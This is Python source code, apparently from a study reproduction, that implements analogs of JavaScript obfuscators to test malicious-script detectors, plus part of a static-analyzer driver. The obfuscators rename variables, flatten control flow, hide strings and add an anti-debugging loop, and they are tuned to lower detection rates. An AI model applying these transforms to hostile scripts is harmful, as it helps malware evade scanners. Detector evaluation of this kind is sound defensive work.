        split_probability: Chance each string literal gets split in two.
        wrap_probability: Chance the whole script is wrapped in an IIFE.
    """

    name = "wild"

    def __init__(self, seed: int | None = None, split_probability: float = 0.6, wrap_probability: float = 0.4):
        super().__init__(seed)
        self.split_probability = split_probability
        self.wrap_probability = wrap_probability

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:
        rename_variables(program, NameGenerator(style="gibberish", rng=rng))

        for literal, parent in collect_string_literals(program, min_length=4):
            if rng.random() > self.split_probability:
                continue
            cut = int(rng.integers(1, len(literal.value)))
            left = ast.Literal(literal.value[:cut], repr(literal.value[:cut]))
            right = ast.Literal(literal.value[cut:], repr(literal.value[cut:]))
            target = parent if parent is not None else program
            target.replace_child(literal, ast.BinaryExpression("+", left, right))

        if rng.random() < self.wrap_probability and program.body:
            shell = ast.ExpressionStatement(
                ast.CallExpression(
                    ast.FunctionExpression(None, [], ast.BlockStatement(program.body[:])),
                    [],
                )
            )
            program.body = [shell]
