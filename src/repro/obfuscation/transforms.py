"""Shared AST-transformation toolkit used by all four obfuscators.

Every obfuscator in this package follows the same discipline as the real
tools: parse → transform the AST in place → regenerate source.  The helpers
here cover the recurring needs — safe variable renaming via scope analysis,
fresh-name generation, string-literal collection/replacement, and statement
-list surgery.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast
from repro.jsparser import analyze_scopes, parse, generate
from repro.jsparser.visitor import walk, walk_with_parent

#: Names that must never be produced by a renamer (reserved words + common
#: host globals whose capture would change behavior).
_FORBIDDEN_NAMES = frozenset(
    {
        "eval",
        "window",
        "document",
        "navigator",
        "location",
        "console",
        "Math",
        "JSON",
        "String",
        "Number",
        "Array",
        "Object",
        "Date",
        "RegExp",
        "Function",
        "parseInt",
        "parseFloat",
        "unescape",
        "escape",
        "setTimeout",
        "setInterval",
        "arguments",
        "undefined",
        "NaN",
        "Infinity",
    }
)


class NameGenerator:
    """Produces fresh identifier names in a configurable style."""

    def __init__(self, style: str = "hex", rng: np.random.Generator | None = None, prefix: str = "_0x"):
        if style not in ("hex", "gibberish", "short"):
            raise ValueError("style must be 'hex', 'gibberish', or 'short'")
        self.style = style
        self.rng = rng if rng is not None else np.random.default_rng()
        self.prefix = prefix
        self._used: set[str] = set(_FORBIDDEN_NAMES)
        self._counter = 0

    def reserve(self, names) -> None:
        """Mark names as taken so fresh names never collide with them."""
        self._used.update(names)

    def fresh(self) -> str:
        while True:
            name = self._candidate()
            if name not in self._used:
                self._used.add(name)
                return name

    def _candidate(self) -> str:
        if self.style == "hex":
            return f"{self.prefix}{self.rng.integers(0, 16**6):06x}"
        if self.style == "gibberish":
            alphabet = "OIl0o1"
            length = int(self.rng.integers(6, 12))
            body = "".join(self.rng.choice(list(alphabet)) for _ in range(length))
            return "_" + body
        self._counter += 1
        return f"v{self._counter}"


def rename_variables(program: ast.Program, namer: NameGenerator) -> dict[str, str]:
    """Consistently rename every declared variable/function/parameter.

    Uses scope analysis so that (a) each binding and all its references are
    renamed together, (b) distinct bindings get distinct names, and (c)
    unresolved globals (``document``, library names) are left alone.

    Returns the old→new mapping (per binding; shadowed names may map the
    same source name to several new names — the mapping records the last).
    """
    analyzer = analyze_scopes(program)
    namer.reserve(identifier.name for identifier in _all_identifiers(program))
    mapping: dict[str, str] = {}

    for scope in analyzer.global_scope.iter_scopes():
        for name, binding in scope.bindings.items():
            new_name = namer.fresh()
            mapping[name] = new_name
            # Rename every declaration site (repeated `var x` merges into
            # one binding with several sites).
            for declaration in binding.declarations:
                _rename_declaration(declaration, name, new_name)
            for reference in binding.references:
                reference.name = new_name
    return mapping


def _all_identifiers(program: ast.Program):
    for node in walk(program):
        if node.type == "Identifier":
            yield node


def _rename_declaration(declaration: ast.Node, old: str, new: str) -> None:
    """Rename the name-slot identifier of a declaration node."""
    if declaration.type == "VariableDeclarator" and declaration.id.name == old:
        declaration.id.name = new
        return
    if declaration.type in ("FunctionDeclaration", "FunctionExpression"):
        if getattr(declaration, "id", None) is not None and declaration.id.name == old:
            declaration.id.name = new
        for param in declaration.params:
            target = param.argument if param.type == "SpreadElement" else param
            if target.name == old:
                target.name = new
        return
    if declaration.type == "ArrowFunctionExpression":
        for param in declaration.params:
            target = param.argument if param.type == "SpreadElement" else param
            if target.name == old:
                target.name = new
        return
    if declaration.type == "CatchClause" and declaration.param is not None and declaration.param.name == old:
        declaration.param.name = new


def collect_string_literals(program: ast.Program, min_length: int = 1) -> list[tuple[ast.Literal, ast.Node]]:
    """All string literals (with parents) eligible for extraction.

    Property keys and accessor names are excluded — rewriting those to
    computed lookups is what the real tools' "property encryption" option
    does, which we keep out of the base string transform.
    """
    out: list[tuple[ast.Literal, ast.Node]] = []
    for node, parent in walk_with_parent(program):
        if node.type != "Literal" or not isinstance(getattr(node, "value", None), str):
            continue
        if getattr(node, "regex", None) is not None:
            continue
        if parent is not None and parent.type == "Property" and parent.key is node:
            continue
        if len(node.value) < min_length:
            continue
        out.append((node, parent))
    return out


def replace_node(parent: ast.Node | None, old: ast.Node, new: ast.Node, program: ast.Program) -> None:
    """Swap ``old`` for ``new`` under ``parent`` (or at program top level)."""
    target = parent if parent is not None else program
    if not target.replace_child(old, new):
        raise ValueError(f"{old!r} is not a child of {target!r}")


def encrypt_properties(program: ast.Program, rng: np.random.Generator, probability: float = 0.8) -> int:
    """Property encryption (Sec. II-B): ``o.prop`` → ``o["prop"]``.

    Rewriting dotted member access to computed access moves the property
    name into a string literal, where the string transforms (string array,
    fromCharCode, …) of the calling obfuscator then hide it.  ``this``
    binding of method calls is unaffected (``o["m"](x)`` binds like
    ``o.m(x)``).  Returns the number of rewritten sites.
    """
    count = 0
    for node in walk(program):
        if node.type != "MemberExpression" or node.computed:
            continue
        if node.property.type != "Identifier":
            continue
        if rng.random() > probability:
            continue
        name = node.property.name
        node.property = ast.Literal(name, repr(name))
        node.computed = True
        count += 1
    return count


def make_string_array_access(array_name: str, index: int) -> ast.MemberExpression:
    """Build ``arrayName[index]``."""
    return ast.MemberExpression(
        ast.Identifier(array_name),
        ast.Literal(index, str(index)),
        computed=True,
    )


def fresh_program(source: str) -> ast.Program:
    """Parse a new, independent AST for transformation."""
    return parse(source)


def to_source(program: ast.Program) -> str:
    """Generate JavaScript text from a (transformed) AST."""
    return generate(program)
