"""The four obfuscators the paper evaluates against, as AST→AST transforms.

Each class is an analog of a published tool (see DESIGN.md for the
substitution rationale): JavaScript-Obfuscator (renaming, string array,
control-flow flattening, dead code), Jfogs (call fogging), JSObfu
(iterative string randomization), and Jshaman basic (variable obfuscation).
"""

from .base import Obfuscator
from .jfogs import Jfogs
from .jshaman import Jshaman
from .jsobfu import JSObfu
from .jsobfuscator import JavaScriptObfuscator
from .minify import Minifier
from .wild import WildObfuscator
from .transforms import NameGenerator, collect_string_literals, rename_variables

ALL_OBFUSCATORS = {
    "javascript-obfuscator": JavaScriptObfuscator,
    "jfogs": Jfogs,
    "jsobfu": JSObfu,
    "jshaman": Jshaman,
}

__all__ = [
    "Obfuscator",
    "Jfogs",
    "Jshaman",
    "JSObfu",
    "JavaScriptObfuscator",
    "Minifier",
    "WildObfuscator",
    "NameGenerator",
    "collect_string_literals",
    "rename_variables",
    "ALL_OBFUSCATORS",
]
