"""JavaScript-Obfuscator analog.

The npm ``javascript-obfuscator`` combines several transformations; the
paper enables its defaults, whose most detection-relevant effects are:

1. **Hex variable renaming** — all declared names become ``_0x1a2b3c``.
2. **String-array extraction** — string literals move into one rotated
   array at the top of the file; usages become indexed lookups through a
   decoder function.
3. **Control-flow flattening** — straight-line function bodies become a
   ``while(true)+switch`` dispatcher over a shuffled case order.
4. **Dead-code injection** — opaque-predicate guarded junk statements.

All four are implemented AST→AST so the output is always valid JS.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast
from repro.jsparser.visitor import walk

from .base import Obfuscator
from .transforms import (
    NameGenerator,
    collect_string_literals,
    encrypt_properties,
    rename_variables,
)


class JavaScriptObfuscator(Obfuscator):
    """Analog of the npm ``javascript-obfuscator`` default preset.

    Args:
        seed: Randomness seed (case shuffling, renaming, junk payloads).
        string_array: Enable string-array extraction.
        control_flow_flattening: Enable the switch-dispatch rewrite.
        dead_code_injection: Enable junk-statement injection.
    """

    name = "javascript-obfuscator"

    def __init__(
        self,
        seed: int | None = None,
        string_array: bool = True,
        control_flow_flattening: bool = True,
        dead_code_injection: bool = True,
        debug_protection: bool = False,
    ):
        super().__init__(seed)
        self.string_array = string_array
        self.control_flow_flattening = control_flow_flattening
        self.dead_code_injection = dead_code_injection
        # The tool's "debugProtection" option (Sec. II-B's *debugging
        # protection* technique): off by default, like the real preset.
        self.debug_protection = debug_protection

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:
        namer = NameGenerator(style="hex", rng=rng)
        rename_variables(program, namer)
        # Flattening runs first: string extraction afterwards hoists the
        # string array and decoder to the (new) top level, where they stay
        # visible to every lookup.
        if self.control_flow_flattening:
            self._flatten_functions(program, rng, namer)
        if self.string_array:
            # Property encryption first: dotted accesses become computed
            # string lookups, which the string array then absorbs.
            encrypt_properties(program, rng, probability=0.8)
            self._extract_strings(program, rng, namer)
        if self.dead_code_injection:
            self._inject_dead_code(program, rng, namer)
        if self.debug_protection:
            self._inject_debug_protection(program, rng, namer)

    # ------------------------------------------------------------- strings

    def _extract_strings(self, program: ast.Program, rng: np.random.Generator, namer: NameGenerator) -> None:
        literals = collect_string_literals(program, min_length=2)
        if not literals:
            return
        table: list[str] = []
        index_of: dict[str, int] = {}
        array_name = namer.fresh()
        decoder_name = namer.fresh()

        # Deduplicate values into the table.
        for literal, _ in literals:
            if literal.value not in index_of:
                index_of[literal.value] = len(table)
                table.append(literal.value)

        # Rotate the table by a random offset, mimicking the tool's
        # "string array rotate" option; lookups add the offset back mod n.
        n = len(table)
        rotation = int(rng.integers(0, n)) if n > 1 else 0
        rotated = table[rotation:] + table[:rotation]

        for literal, parent in literals:
            original_index = index_of[literal.value]
            stored_index = (original_index - rotation) % n
            # Lookups go through the decoder function, as the real tool's
            # "string array calls transform" does.
            access = ast.CallExpression(
                ast.Identifier(decoder_name), [ast.Literal(stored_index, str(stored_index))]
            )
            target = parent if parent is not None else program
            target.replace_child(literal, access)

        array_decl = ast.VariableDeclaration(
            [
                ast.VariableDeclarator(
                    ast.Identifier(array_name),
                    ast.ArrayExpression([ast.Literal(s, repr(s)) for s in rotated]),
                )
            ],
            kind="var",
        )
        program.body.insert(0, array_decl)

        decoder = ast.FunctionDeclaration(
            ast.Identifier(decoder_name),
            [ast.Identifier("n")],
            ast.BlockStatement(
                [
                    ast.ReturnStatement(
                        ast.MemberExpression(
                            ast.Identifier(array_name), ast.Identifier("n"), computed=True
                        )
                    )
                ]
            ),
        )
        program.body.insert(1, decoder)

    # ------------------------------------------------- control-flow flatten

    def _flatten_functions(self, program: ast.Program, rng: np.random.Generator, namer: NameGenerator) -> None:
        for node in list(walk(program)):
            if node.type not in ("FunctionDeclaration", "FunctionExpression"):
                continue
            body = node.body
            if body.type != "BlockStatement":
                continue
            declarations = [s for s in body.body if s.type == "FunctionDeclaration"]
            rest = [s for s in body.body if s.type != "FunctionDeclaration"]
            if not self._flattenable(rest):
                continue
            # Hoisted declarations are lifted ahead of the dispatcher.
            body.body = declarations + self._dispatchered(rest, rng, namer)
        # The real tool also transforms top-level code; flattenable
        # top-level runs are wrapped in an IIFE and dispatchered.  The
        # top-level function declarations move *inside* the IIFE with the
        # dispatcher: they may close over top-level `var`s, which become
        # IIFE-locals — leaving the functions outside would sever those
        # references.
        if self._flattenable([s for s in program.body if s.type != "FunctionDeclaration"]):
            functions = [s for s in program.body if s.type == "FunctionDeclaration"]
            straightline = [s for s in program.body if s.type != "FunctionDeclaration"]
            wrapped = ast.ExpressionStatement(
                ast.CallExpression(
                    ast.FunctionExpression(
                        None,
                        [],
                        ast.BlockStatement(functions + self._dispatchered(straightline, rng, namer)),
                    ),
                    [],
                )
            )
            program.body = [wrapped]

    @staticmethod
    def _flattenable(statements: list[ast.Node]) -> bool:
        """Any 3+ statement sequence is dispatcherable, bar declarations.

        Each original statement becomes one ``case`` executed in the
        original order, so compound statements (loops, conditionals, try)
        are safe to carry whole: their internal ``break``/``continue``
        bind to their own constructs, and a ``return`` anywhere exits the
        enclosing function exactly as before.  Only hoisted
        ``FunctionDeclaration``s are excluded (the caller lifts them out),
        mirroring the real tool.
        """
        if len(statements) < 3:
            return False
        return all(stmt.type != "FunctionDeclaration" for stmt in statements)

    @staticmethod
    def _dispatchered(statements: list[ast.Node], rng: np.random.Generator, namer: NameGenerator) -> list[ast.Node]:
        """Rewrite statements as a shuffled switch-dispatch loop.

        ``var`` declarations keep function-scope semantics inside the
        switch, so hoisting is preserved automatically.
        """
        order = list(range(len(statements)))
        shuffled = order.copy()
        rng.shuffle(shuffled)

        # sequence[i] = execution-order position of case label i.
        sequence_name = namer.fresh()
        counter_name = namer.fresh()

        cases = []
        for case_label, stmt_index in enumerate(shuffled):
            stmt = statements[stmt_index]
            consequent: list[ast.Node] = [stmt]
            if stmt.type != "ReturnStatement":
                consequent.append(ast.ContinueStatement())
            cases.append(ast.SwitchCase(ast.Literal(str(case_label), repr(case_label)), consequent))

        # Dispatch string: execution order mapped to case labels.
        dispatch = "|".join(str(shuffled.index(i)) for i in order)

        sequence_decl = ast.VariableDeclaration(
            [
                ast.VariableDeclarator(
                    ast.Identifier(sequence_name),
                    ast.CallExpression(
                        ast.MemberExpression(
                            ast.Literal(dispatch, repr(dispatch)), ast.Identifier("split"), computed=False
                        ),
                        [ast.Literal("|", "'|'")],
                    ),
                ),
                ast.VariableDeclarator(ast.Identifier(counter_name), ast.Literal(0, "0")),
            ],
            kind="var",
        )

        discriminant = ast.MemberExpression(
            ast.Identifier(sequence_name),
            ast.UpdateExpression("++", ast.Identifier(counter_name), prefix=False),
            computed=True,
        )
        loop = ast.WhileStatement(
            ast.Literal(True, "true"),
            ast.BlockStatement(
                [
                    ast.SwitchStatement(discriminant, cases),
                    ast.BreakStatement(),
                ]
            ),
        )
        return [sequence_decl, loop]

    # ----------------------------------------------------------- dead code

    def _inject_dead_code(self, program: ast.Program, rng: np.random.Generator, namer: NameGenerator) -> None:
        blocks = [program] + [n for n in walk(program) if n.type == "BlockStatement"]
        for block in blocks:
            body = block.body
            if rng.random() < 0.5:
                continue
            position = int(rng.integers(0, len(body) + 1))
            body.insert(position, self._junk_statement(rng, namer))

    @staticmethod
    def _inject_debug_protection(program: ast.Program, rng: np.random.Generator, namer: NameGenerator) -> None:
        """The tool's debugger-protection loop: a self-calling checker that
        issues ``debugger`` statements to stall attached dev tools."""
        guard_name = namer.fresh()
        counter_name = namer.fresh()
        body = ast.BlockStatement(
            [
                ast.DebuggerStatement(),
                ast.ExpressionStatement(
                    ast.AssignmentExpression(
                        "+=", ast.Identifier(counter_name), ast.Literal(1, "1")
                    )
                ),
                ast.IfStatement(
                    ast.BinaryExpression(
                        "<", ast.Identifier(counter_name), ast.Literal(2, "2")
                    ),
                    ast.BlockStatement(
                        [
                            ast.ExpressionStatement(
                                ast.CallExpression(
                                    ast.Identifier("setTimeout"),
                                    [ast.Identifier(guard_name), ast.Literal(4000, "4000")],
                                )
                            )
                        ]
                    ),
                    None,
                ),
            ]
        )
        guard = ast.FunctionDeclaration(ast.Identifier(guard_name), [], body)
        counter_decl = ast.VariableDeclaration(
            [ast.VariableDeclarator(ast.Identifier(counter_name), ast.Literal(0, "0"))],
            kind="var",
        )
        start = ast.ExpressionStatement(ast.CallExpression(ast.Identifier(guard_name), []))
        program.body.extend([counter_decl, guard, start])

    @staticmethod
    def _junk_statement(rng: np.random.Generator, namer: NameGenerator) -> ast.Node:
        """An opaque-predicate-guarded statement that never executes."""
        junk_var = namer.fresh()
        lhs = int(rng.integers(2, 50))
        rhs = lhs + int(rng.integers(1, 50))
        predicate = ast.BinaryExpression(
            "===", ast.Literal(lhs, str(lhs)), ast.Literal(rhs, str(rhs))
        )
        payload = ast.BlockStatement(
            [
                ast.VariableDeclaration(
                    [
                        ast.VariableDeclarator(
                            ast.Identifier(junk_var),
                            ast.BinaryExpression(
                                "*",
                                ast.Literal(int(rng.integers(1, 999)), "0"),
                                ast.Literal(int(rng.integers(1, 999)), "0"),
                            ),
                        )
                    ],
                    kind="var",
                )
            ]
        )
        return ast.IfStatement(predicate, payload, None)
