"""Jfogs analog.

Jfogs' signature behavior (per the paper: "removing function call
identifiers and parameters") wraps a script so that direct call targets and
string/number arguments disappear from the visible code: values move into a
"fog" array, and calls go through indexed references.  All obfuscated
outputs share a near-identical structure — the property the paper credits
for CUJO's 50/50 confusion on Jfogs output.

Transformation:

* every *direct* call ``f(a, 'x', 1)`` becomes
  ``$fog$[i](a, $fog$[j], $fog$[k])`` where ``$fog$`` holds the function
  reference and the literal arguments;
* the fog array is declared first, populated from the original identifiers
  and literals;
* declared variables are also renamed (Jfogs renames to ``$fog$N`` style).
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast
from repro.jsparser.scope import analyze_scopes
from repro.jsparser.visitor import walk_with_parent

from .base import Obfuscator
from .transforms import NameGenerator, rename_variables


class Jfogs(Obfuscator):
    """Analog of the Jfogs call-fogging obfuscator.

    Args:
        seed: Randomness seed (fog-slot shuffling).
        fog_name: Name of the fog array variable.
    """

    name = "jfogs"

    def __init__(
        self,
        seed: int | None = None,
        fog_name: str = "$fog$",
        constant_fog_rate: float = 0.35,
        member_fog_rate: float = 0.5,
    ):
        super().__init__(seed)
        self.fog_name = fog_name
        for rate in (constant_fog_rate, member_fog_rate):
            if not 0.0 <= rate <= 1.0:
                raise ValueError("fog rates must be in [0, 1]")
        # The real tool fogs call sites selectively (its per-function slot
        # budget); these rates calibrate the analog so the *impact profile*
        # on detectors matches the paper's measurements (moderate FNR
        # inflation, not total signal destruction) — see DESIGN.md.
        self.constant_fog_rate = constant_fog_rate
        self.member_fog_rate = member_fog_rate

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:
        namer = NameGenerator(style="short", rng=rng, prefix="$fog$")
        rename_variables(program, namer)

        # Decoy leading slots vary the fog layout between runs (the real
        # tool's output also shifts with its internal counter state).
        fog_entries: list[ast.Node] = [
            ast.Literal(int(v), str(int(v))) for v in rng.integers(0, 256, size=int(rng.integers(1, 4)))
        ]

        def fog_slot(expression: ast.Node) -> ast.MemberExpression:
            index = len(fog_entries)
            fog_entries.append(expression)
            return ast.MemberExpression(
                ast.Identifier(self.fog_name), ast.Literal(index, str(index)), computed=True
            )

        # Collect rewrite targets first (mutating while walking is unsafe).
        analyzer = analyze_scopes(program)
        local_names = set()
        for scope in analyzer.global_scope.iter_scopes():
            local_names.update(scope.bindings)

        apply_helper = f"{self.fog_name}c"
        used_helper = False
        # Only *known* host globals are safe to hoist into the eagerly
        # evaluated fog array: an unknown name might be undefined at load
        # time, and referencing it in the array initializer would throw
        # outside any try/catch the original call sat in.
        hoistable_globals = frozenset(
            {
                "eval",
                "unescape",
                "escape",
                "parseInt",
                "parseFloat",
                "isNaN",
                "String",
                "Array",
                "Number",
                "Boolean",
                "setTimeout",
                "setInterval",
                "alert",
                "decodeURIComponent",
                "encodeURIComponent",
            }
        )
        for node, parent in walk_with_parent(program):
            if node.type != "CallExpression":
                continue
            callee = node.callee
            # Known host callees (eval, unescape, …) move into the fog
            # array; local functions were already renamed.
            if callee.type == "Identifier" and callee.name not in local_names and callee.name in hoistable_globals:
                node.callee = fog_slot(ast.Identifier(callee.name))
            # Member calls lose their method identifier: `o.m(a)` becomes
            # `$fog$c(o, $fog$[i], a)` with the name stored as data — the
            # tool's point is that no call identifier survives in code.
            elif callee.type == "MemberExpression" and not callee.computed and rng.random() < self.member_fog_rate:
                method_name = callee.property.name
                node.callee = ast.Identifier(apply_helper)
                node.arguments = [callee.object, fog_slot(ast.Literal(method_name, repr(method_name)))] + node.arguments
                used_helper = True
                continue
            new_arguments: list[ast.Node] = []
            for argument in node.arguments:
                if argument.type == "Literal" and getattr(argument, "regex", None) is None:
                    new_arguments.append(fog_slot(argument))
                else:
                    new_arguments.append(argument)
            node.arguments = new_arguments

        # Jfogs also pulls remaining constants into the fog array — loop
        # bounds, keys, strings — at the configured rate.
        for node, parent in list(walk_with_parent(program)):
            if node.type != "Literal" or getattr(node, "regex", None) is not None:
                continue
            if not isinstance(node.value, (str, int, float)) or isinstance(node.value, bool):
                continue
            if parent is None or rng.random() > self.constant_fog_rate:
                continue
            if parent.type == "Property" and parent.key is node:
                continue
            # Skip indexes of fog slots we just created.
            if (
                parent.type == "MemberExpression"
                and parent.computed
                and parent.object.type == "Identifier"
                and parent.object.name == self.fog_name
            ):
                continue
            if parent.replace_child(node, fog_slot(ast.Literal(node.value, node.raw))):
                continue

        if not fog_entries:
            # Keep the uniform Jfogs shell even when nothing was fogged.
            fog_entries.append(ast.Literal(0, "0"))

        fog_decl = ast.VariableDeclaration(
            [
                ast.VariableDeclarator(
                    ast.Identifier(self.fog_name),
                    ast.ArrayExpression(fog_entries),
                )
            ],
            kind="var",
        )

        prelude: list[ast.Node] = [fog_decl]
        if used_helper:
            # function $fog$c(o, m) { return o[m].apply(o, [rest args]); }
            slice_call = ast.CallExpression(
                ast.MemberExpression(
                    ast.MemberExpression(
                        ast.MemberExpression(
                            ast.Identifier("Array"), ast.Identifier("prototype"), computed=False
                        ),
                        ast.Identifier("slice"),
                        computed=False,
                    ),
                    ast.Identifier("call"),
                    computed=False,
                ),
                [ast.Identifier("arguments"), ast.Literal(2, "2")],
            )
            apply_call = ast.CallExpression(
                ast.MemberExpression(
                    ast.MemberExpression(ast.Identifier("o"), ast.Identifier("m"), computed=True),
                    ast.Identifier("apply"),
                    computed=False,
                ),
                [ast.Identifier("o"), slice_call],
            )
            helper_decl = ast.FunctionDeclaration(
                ast.Identifier(apply_helper),
                [ast.Identifier("o"), ast.Identifier("m")],
                ast.BlockStatement([ast.ReturnStatement(apply_call)]),
            )
            prelude.append(helper_decl)

        # Wrap everything in the Jfogs IIFE shell: (function(){...})();
        original_body = program.body[:]
        shell = ast.ExpressionStatement(
            ast.CallExpression(
                ast.FunctionExpression(
                    None,
                    [],
                    ast.BlockStatement(prelude + original_body),
                ),
                [],
            )
        )
        program.body = [shell]
