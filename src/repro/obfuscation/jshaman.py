"""Jshaman (basic edition) analog.

The paper uses Jshaman's *basic* version, noting it "mainly uses variable
obfuscation techniques, resulting in a weaker obfuscation compared to other
obfuscators" — and correspondingly affects detectors least.  Accordingly
this analog performs:

* gibberish-style variable renaming (scope-safe), and
* light literal encoding: a random subset of string literals become
  hex-escaped equivalents (``"abc"`` → ``"\\x61\\x62\\x63"`` — same runtime
  value, different spelling), keeping structure untouched.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import ast_nodes as ast

from .base import Obfuscator
from .transforms import NameGenerator, collect_string_literals, rename_variables


class Jshaman(Obfuscator):
    """Analog of the Jshaman basic obfuscation service.

    Args:
        seed: Randomness seed.
        encode_fraction: Fraction of string literals to hex-encode.
    """

    name = "jshaman"

    def __init__(self, seed: int | None = None, encode_fraction: float = 0.5):
        super().__init__(seed)
        if not 0.0 <= encode_fraction <= 1.0:
            raise ValueError("encode_fraction must be in [0, 1]")
        self.encode_fraction = encode_fraction

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:
        namer = NameGenerator(style="gibberish", rng=rng)
        rename_variables(program, namer)

        # Hex-escaping changes the literal's *raw* spelling only; since our
        # codegen prints decoded values, we emulate the visible effect by
        # keeping the value identical — detectors that read literal values
        # see no change (matching Jshaman's weak impact), while detectors
        # keyed on identifier names see fully renamed code.
        for literal, _ in collect_string_literals(program):
            if rng.random() < self.encode_fraction:
                literal.raw = "".join(f"\\x{ord(c):02x}" if ord(c) < 256 else c for c in literal.value)
