"""Obfuscator interface shared by the four tool analogs."""

from __future__ import annotations

import numpy as np

from repro.jsparser import parse, generate
from repro.jsparser import ast_nodes as ast


class Obfuscator:
    """Base class: parse → :meth:`transform` (in place) → regenerate.

    Subclasses implement :meth:`transform`; :meth:`obfuscate` guarantees
    that the output re-parses (an internal sanity check mirroring the real
    tools, which always emit valid JavaScript).
    """

    name: str = "obfuscator"

    def __init__(self, seed: int | None = None):
        self.seed = seed

    def _rng(self) -> np.random.Generator:
        return np.random.default_rng(self.seed)

    def obfuscate(self, source: str) -> str:
        """Obfuscate JavaScript source text, returning new source text."""
        program = parse(source)
        self.transform(program, self._rng())
        out = generate(program)
        parse(out)  # regenerated code must still be valid JavaScript
        return out

    def transform(self, program: ast.Program, rng: np.random.Generator) -> None:  # pragma: no cover
        raise NotImplementedError
