"""The analyzer driver: every rule, one AST walk, structured output.

``Analyzer.analyze(source)`` parses once, walks the tree once (dispatching
node hooks from a type-indexed map), runs each rule's finish pass with
lazily computed dataflow facts, applies ``// repro-ignore`` suppressions,
and folds the surviving findings into a saturating suspicion score.

Robustness contract: ``analyze`` **never raises**.  Malformed input
produces a report with ``parse_ok=False`` and a structured ``parse-error``
finding; a buggy rule is isolated (its exception is swallowed and counted)
rather than poisoning the scan.
"""

from __future__ import annotations

import re
import time
from typing import TYPE_CHECKING

from repro.jsparser import JSSyntaxError, Parser
from repro.jsparser import ast_nodes as ast

from .catalog import default_rules
from .findings import (
    DECISIVE_WEIGHT,
    SEVERITY_WEIGHT,
    AnalysisReport,
    Finding,
    combine_score,
)
from .rules import Rule, RuleContext

if TYPE_CHECKING:  # pragma: no cover
    from repro.jsparser.lexer import Comment
    from repro.obs import MetricsRegistry

#: Rule id attached to syntax-failure findings.
PARSE_ERROR_RULE_ID = "parse-error"

#: Rule id attached when a rule (or its lazy dataflow facts) blows the
#: recursion limit on a pathologically nested tree: the walk survives and
#: the report says explicitly which analyses were cut short.
EXTRACT_ERROR_RULE_ID = "extract-error"

#: Suppression directive: ``// repro-ignore: rule-a, rule-b`` or ``all``.
_IGNORE_DIRECTIVE = re.compile(r"repro-ignore\s*:\s*([\w\-*,\s]+)")


def parse_suppressions(comments: list["Comment"]) -> dict[int, set[str]]:
    """Map 1-based line numbers to the rule ids suppressed there.

    A trailing comment suppresses its own line; a comment alone on its
    line suppresses the *next* line (eslint's ``disable-next-line``
    ergonomics).  ``all`` (or ``*``) suppresses every rule.
    """
    suppressions: dict[int, set[str]] = {}
    for comment in comments:
        match = _IGNORE_DIRECTIVE.search(comment.text)
        if match is None:
            continue
        rule_ids = {part.strip() for part in match.group(1).split(",") if part.strip()}
        if not rule_ids:
            continue
        target_line = comment.line + 1 if comment.own_line else comment.line
        suppressions.setdefault(target_line, set()).update(rule_ids)
    return suppressions


def _matches(rule_id: str, rule_ids: set[str] | None) -> bool:
    if not rule_ids:
        return False
    return rule_id in rule_ids or "all" in rule_ids or "*" in rule_ids


def _suppression_line(finding: Finding, suppressions: dict[int, set[str]]) -> int | None:
    """The directive line that silences this finding, or ``None``.

    A plain finding is matched on its own line.  A flow finding (one
    carrying a witness) is additionally matched on its witness *source*
    and *sink* lines — suppressing either end silences the whole flow.
    """
    candidates = [finding.line]
    if finding.witness:
        candidates.extend((finding.source_line, finding.sink_line))
    for line in candidates:
        if _matches(finding.rule_id, suppressions.get(line)):
            return line
    return None


def raw_suppressions(source: str) -> dict[int, set[str]]:
    """Suppression directives lexed straight from pre-normalization text.

    The deobfuscation pass regenerates code without comments, so a
    ``// repro-ignore`` directive written in the submitted script never
    reaches the analyzer when it runs over normalized text.  This lexes
    (only — no parse) the *raw* source for directives; the analyzer
    matches them against the ``raw_line`` spans mapped back onto the
    normalized findings.
    """
    from repro.jsparser.lexer import Lexer

    try:
        lexer = Lexer(source)
        lexer.tokenize()
    except Exception:
        return {}
    return parse_suppressions(lexer.comments)


def _raw_suppression_line(finding: Finding, suppressions: dict[int, set[str]]) -> int | None:
    """Like :func:`_suppression_line`, but over raw (pre-normalization)
    spans: the finding's ``raw_line`` and its witness source/sink hops'
    ``raw_line`` values."""
    candidates: list[int] = []
    if finding.raw_line is not None:
        candidates.append(finding.raw_line)
    if finding.witness:
        for hop in (finding.witness[0], finding.witness[-1]):
            raw = hop.get("raw_line")
            if isinstance(raw, int):
                candidates.append(raw)
    for line in candidates:
        if _matches(finding.rule_id, suppressions.get(line)):
            return line
    return None


class Analyzer:
    """Runs a rule catalog over scripts; one instance serves many scripts.

    Args:
        rules: Rule instances to run; defaults to the full built-in
            catalog (:func:`~repro.analysis.catalog.default_rules`).
        metrics: Optional :class:`~repro.obs.MetricsRegistry`; when given,
            the analyzer records per-rule hit counters (pre-registered so
            exposition shows zeros), script counts, and latency.
    """

    def __init__(
        self, rules: list[Rule] | None = None, metrics: "MetricsRegistry | None" = None
    ) -> None:
        self.rules = list(rules) if rules is not None else default_rules()
        seen_ids: set[str] = set()
        for rule in self.rules:
            if rule.id in seen_ids:
                raise ValueError(f"duplicate rule id {rule.id!r}")
            seen_ids.add(rule.id)
        self._hooks_by_type: dict[str, list[Rule]] = {}
        for rule in self.rules:
            for node_type in rule.node_types:
                self._hooks_by_type.setdefault(node_type, []).append(rule)
        #: Exceptions swallowed from buggy rule hooks (visible for tests).
        self.rule_errors = 0

        self.metrics = metrics
        if metrics is not None:
            self._m_scripts = metrics.counter(
                "repro_analysis_scripts_total", "Scripts run through the static analyzer"
            )
            self._m_seconds = metrics.histogram(
                "repro_analysis_seconds", "Wall-clock per analyzed script"
            )
            self._m_dataflow = metrics.histogram(
                "repro_analysis_dataflow_seconds",
                "Wall-clock inside dataflow facts and the taint engine per script",
            )
            self._m_rule_hits = {
                rule_id: metrics.counter(
                    "repro_analysis_findings_total",
                    "Unsuppressed findings by rule",
                    labels={"rule": rule_id},
                )
                for rule_id in [rule.id for rule in self.rules]
                + [PARSE_ERROR_RULE_ID, EXTRACT_ERROR_RULE_ID]
            }

